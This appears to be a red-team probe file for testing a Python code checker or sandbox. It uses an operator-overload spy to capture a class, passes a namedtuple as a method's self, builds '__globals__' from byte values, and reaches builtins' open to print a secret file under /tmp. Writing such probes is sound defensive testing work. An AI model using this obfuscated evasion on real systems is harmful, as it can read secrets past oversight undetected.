# family: red team, round 24 (what a method's self may be)
# Chain (refused probe): Reader + spy hands the class to spy.__radd__, then k.fetch(box, fn) on a parameter.
# Goal: a run-time name reaching getattr / a trusted constant or self that is not the tool's own object.
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Spy:
    def __init__(self):
        self.got = []

    def __gt__(self, other):
        self.got.append(other)
        return True

    def __radd__(self, other):
        self.got.append(other)
        return 0


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    spy = Spy()
    Reader + spy
    d = bytes([95, 95]).decode()
    box = Box((d + "globals" + d,))
    got = call_read(spy.got[0], box, helper)[0]
    print(sorted(got.keys())[:8])
    print(got[d + "builtins" + d].open("/tmp/r24/work/secret.txt").read())


run()
